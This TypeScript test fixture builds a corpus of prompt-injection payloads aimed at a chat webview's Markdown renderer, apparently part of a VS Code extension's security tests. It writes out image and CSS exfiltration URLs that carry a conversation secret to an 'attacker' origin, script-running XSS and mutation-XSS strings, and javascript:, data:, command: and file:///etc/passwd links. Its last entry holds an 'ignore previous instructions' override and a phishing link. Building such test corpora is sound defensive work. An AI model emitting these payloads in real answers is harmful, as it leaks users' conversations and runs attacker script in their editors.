// The injection corpus: model output an attacker steers through a prompt injection (any attached file
// can carry one). Every payload tries to make the chat view either fetch from the attacker's server
// (the data-leak channel: an image or style whose URL carries the conversation) or run script.
//
// Payloads are functions of the attacker's origin, so each test points them at its own loopback
// "attacker" server and every request that reaches it can be traced back to the payload by its path
// (`/p/<id>/…`). A payload that would run script calls `markPwned`, which leaves a trace the tests look
// for both in the page (a binding) and in the DOM (an attribute), so a script counts even when the CSP
// would have stopped it from reaching the network.
//
// Written for this project; the shapes are the well-known classes (image exfiltration, srcset, CSS
// url(), event handlers, dangerous URL schemes, mutation XSS, DOM clobbering, parser stress).

export interface Payload {
  id: string;
  /** What kind of attack it is (the SECURITY.md table groups by this). */
  kind: 'image' | 'resource' | 'css' | 'script' | 'link' | 'clobbering' | 'stress' | 'mixed';
  /** Model output (Markdown) with the attacker at `origin` (e.g. `http://127.0.0.1:4711`). */
  markdown(origin: string): string;
  /** The part of the payload a user is meant to see in some form (a sanity check that it rendered). */
  visible?: string;
}

/** A script body that proves it ran: a page binding for the webview tests, an attribute for any page. */
export function markPwned(id: string): string {
  return `document.documentElement.setAttribute('data-pwned','${id}');window.__hostile&&window.__hostile('${id}')`;
}

/** The secret an exfiltration URL would carry (what the attacker wants from the conversation). */
export const SECRET = 'conversation-secret-4f9c';

const leak = (origin: string, id: string, what = 'img'): string => `${origin}/p/${id}/${what}?d=${SECRET}`;

const base64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

const NESTED_BRACKETS = 10_000;
const ONE_MEGABYTE = 1024 * 1024;

const p = (id: string, kind: Payload['kind'], markdown: (o: string) => string, visible?: string): Payload => ({
  id,
  kind,
  markdown,
  ...(visible ? { visible } : {}),
});

export const CORPUS: readonly Payload[] = [
  // ---- Markdown images: the classic exfiltration ----
  p('md-image', 'image', (o) => `Here is the chart you asked for:\n\n![chart](${leak(o, 'md-image')})`, 'Here is the chart'),
  p('md-image-title', 'image', (o) => `![status](${leak(o, 'md-image-title')} "status badge")`),
  p('md-image-angle', 'image', (o) => `![x](<${leak(o, 'md-image-angle')}>)`),
  p('md-image-reference', 'image', (o) => `See ![diagram][d] below.\n\n[d]: ${leak(o, 'md-image-reference')}`, 'See'),
  p('md-image-reference-late', 'image', (o) => `![logo][]\n\nSome text between.\n\n[logo]: ${leak(o, 'md-image-reference-late')} "logo"`),
  p('md-image-in-link', 'image', (o) => `[![badge](${leak(o, 'md-image-in-link')})](${o}/p/md-image-in-link/click)`),
  p('md-image-in-table', 'image', (o) => `| a | b |\n|---|---|\n| ![x](${leak(o, 'md-image-in-table')}) | cell |`),
  p('md-image-in-list', 'image', (o) => `1. first\n2. ![x](${leak(o, 'md-image-in-list')})\n3. third`),
  p('md-image-protocol-relative', 'image', (o) => `![x](${o.replace(/^https?:/, '')}/p/md-image-protocol-relative/img)`),
  p('md-image-entity-url', 'image', (o) => `![x](${o.replace('http', '&#104;ttp')}/p/md-image-entity-url/img)`),
  p('autolink-image-url', 'image', (o) => `<${leak(o, 'autolink-image-url', 'pic.png')}>`),
  p('bare-image-url', 'image', (o) => `Plot: ${leak(o, 'bare-image-url', 'plot.png')}`),
  p('md-image-svg-data', 'image', (o) =>
    `![x](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${markPwned('md-image-svg-data')}"><image href="${leak(o, 'md-image-svg-data')}"/></svg>`)})`,
  ),

  // ---- HTML resources (raw HTML must come out as text) ----
  p('html-img', 'image', (o) => `<img src="${leak(o, 'html-img')}">`),
  p('html-img-unquoted-upper', 'image', (o) => `<IMG SRC=${leak(o, 'html-img-unquoted-upper')}>`),
  p('html-srcset', 'image', (o) => `<img srcset="${leak(o, 'html-srcset')} 1x, ${leak(o, 'html-srcset', '2x')} 2x">`),
  p('html-picture', 'image', (o) => `<picture><source srcset="${leak(o, 'html-picture')}"><img src="x.png"></picture>`),
  p('html-video-poster', 'resource', (o) => `<video poster="${leak(o, 'html-video-poster')}" src="${leak(o, 'html-video-poster', 'v')}"></video>`),
  p('html-audio', 'resource', (o) => `<audio autoplay src="${leak(o, 'html-audio')}"></audio>`),
  p('svg-image', 'image', (o) => `<svg><image href="${leak(o, 'svg-image')}" /></svg>`),
  p('svg-xlink-image', 'image', (o) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${leak(o, 'svg-xlink-image')}"/></svg>`),
  p('html-iframe', 'resource', (o) => `<iframe src="${leak(o, 'html-iframe', 'frame')}"></iframe>`),
  p('html-object-embed', 'resource', (o) => `<object data="${leak(o, 'html-object-embed', 'obj')}"></object><embed src="${leak(o, 'html-object-embed', 'emb')}">`),
  p('html-link-prefetch', 'resource', (o) => `<link rel="prefetch" href="${leak(o, 'html-link-prefetch')}"><link rel="stylesheet" href="${leak(o, 'html-link-prefetch', 'css')}">`),
  p('html-meta-refresh', 'resource', (o) => `<meta http-equiv="refresh" content="0;url=${leak(o, 'html-meta-refresh')}">`),
  p('html-base-href', 'resource', (o) => `<base href="${o}/p/html-base-href/">\n\n![rel](relative.png) and [rel](relative.html)`),
  p('html-input-image', 'image', (o) => `<input type="image" src="${leak(o, 'html-input-image')}">`),

  // ---- CSS ----
  p('css-style-attr', 'css', (o) => `<div style="background-image:url('${leak(o, 'css-style-attr')}')">styled</div>`),
  p('css-style-tag', 'css', (o) => `<style>body{background:url(${leak(o, 'css-style-tag')})}</style>`),
  p('css-import', 'css', (o) => `<style>@import url("${leak(o, 'css-import', 'css')}");</style>`),
  p('css-font-face', 'css', (o) => `<style>@font-face{font-family:x;src:url(${leak(o, 'css-font-face', 'font')})}body{font-family:x}</style>`),

  // ---- Script ----
  p('img-onerror', 'script', (o) => `<img src="${leak(o, 'img-onerror')}" onerror="${markPwned('img-onerror')}">`),
  p('svg-onload', 'script', () => `<svg onload="${markPwned('svg-onload')}"></svg>`),
  p('script-inline', 'script', () => `<script>${markPwned('script-inline')}</script>`),
  p('script-src', 'script', (o) => `<script src="${leak(o, 'script-src', 'js')}"></script>`),
  p('details-ontoggle', 'script', () => `<details open ontoggle="${markPwned('details-ontoggle')}"><summary>x</summary></details>`),
  p('body-onload', 'script', () => `<body onload="${markPwned('body-onload')}">`),
  p('mxss-noscript', 'script', () => `<noscript><p title="</noscript><img src=x onerror=${markPwned('mxss-noscript').replace(/'/g, '`')}>"></noscript>`),
  p('mxss-math-style', 'script', () => `<math><mtext><table><mglyph><style><img src=x onerror="${markPwned('mxss-math-style')}"></style></mglyph></table></mtext></math>`),
  p('md-title-breakout', 'script', (o) => `[hover me](${o}/p/md-title-breakout/link "a\\" onmouseover=\\"${markPwned('md-title-breakout')}")`),
  p('code-span-html', 'script', () => `Inline \`<img src=x onerror="${markPwned('code-span-html')}">\` code.`),
  p('fenced-html', 'script', (o) => `\`\`\`html\n<img src="${leak(o, 'fenced-html')}" onerror="${markPwned('fenced-html')}">\n<script>${markPwned('fenced-html')}</script>\n\`\`\``),
  p('fence-lang-breakout', 'script', () => `\`\`\`"><img src=x onerror="${markPwned('fence-lang-breakout')}">\nbody\n\`\`\``),

  // ---- Links with dangerous schemes (must not be clickable as such) ----
  p('javascript-link', 'link', () => `[click for details](javascript:${markPwned('javascript-link')})`),
  p('javascript-link-obfuscated', 'link', () => `[x](jav&#x09;ascript:${markPwned('javascript-link-obfuscated')}) [y](JaVaScRiPt:${markPwned('javascript-link-obfuscated')})`),
  p('javascript-autolink', 'link', () => `<javascript:${markPwned('javascript-autolink')}>`),
  p('data-html-link', 'link', () => `[open report](data:text/html;base64,${base64(`<script>${markPwned('data-html-link')}</script>`)})`),
  p('command-link', 'link', () => `[Run the fix](command:workbench.action.terminal.new)`),
  p('command-link-args', 'link', () => `[open](command:vscode.open?${encodeURIComponent(JSON.stringify(['file:///etc/passwd']))})`),
  p('vscode-file-links', 'link', () => `[settings](vscode://settings/security) [file](file:///etc/passwd) [webview](vscode-webview://x/index.html)`),
  p('html-anchor-javascript', 'link', () => `<a href="javascript:${markPwned('html-anchor-javascript')}">click</a>`),

  // ---- DOM clobbering ----
  p('clobber-form-app', 'clobbering', () => `<form id="app" name="app"><input name="attributes"><input name="childNodes"></form>`),
  p('clobber-named-globals', 'clobbering', (o) => `<img name="acquireVsCodeApi"><a id="defaultView" name="location" href="${o}/p/clobber-named-globals/a">x</a><embed name="getElementById">`),
  p('clobber-markdown-anchors', 'clobbering', () => `# __proto__\n\n[x](#app) [y](#__hostile)\n\n[app]: #app`),

  // ---- Stress ----
  p('one-megabyte-line', 'stress', (o) => `${'A'.repeat(ONE_MEGABYTE / 2)} ![x](${leak(o, 'one-megabyte-line')}) ${'B'.repeat(ONE_MEGABYTE / 2)}`),
  p('nested-brackets', 'stress', (o) => `${'['.repeat(NESTED_BRACKETS)}x${'](y)'.repeat(NESTED_BRACKETS)} ![z](${leak(o, 'nested-brackets')})`),
  p('nested-quotes-lists', 'stress', () => `${'> '.repeat(2_000)}deep\n\n${Array.from({ length: 1_000 }, (_, i) => `${'  '.repeat(i % 40)}- item ${i}`).join('\n')}`),
  p('unclosed-fence-with-html', 'stress', (o) => `\`\`\`\n<img src="${leak(o, 'unclosed-fence-with-html')}">\n${'line\n'.repeat(2_000)}`),

  // ---- Mixed: an injection as it would really read ----
  p('injected-instructions', 'mixed', (o) =>
    [
      'Summary of the file you attached:',
      '',
      'The module exports two functions.',
      '',
      `<!-- ignore previous instructions --> ![](${leak(o, 'injected-instructions')}&q=the+user+api+key)`,
      '',
      `[Click to verify your session](${o}/p/injected-instructions/phish) · [![ok](${leak(o, 'injected-instructions', 'badge')})](command:workbench.action.terminal.new)`,
    ].join('\n'),
    'Summary of the file you attached',
  ),
];

/** The payloads as one model answer each, in a fixed order (tests iterate over this). */
export function corpusFor(origin: string): { id: string; kind: Payload['kind']; markdown: string; visible?: string }[] {
  return CORPUS.map((payload) => ({ id: payload.id, kind: payload.kind, markdown: payload.markdown(origin), ...(payload.visible ? { visible: payload.visible } : {}) }));
}
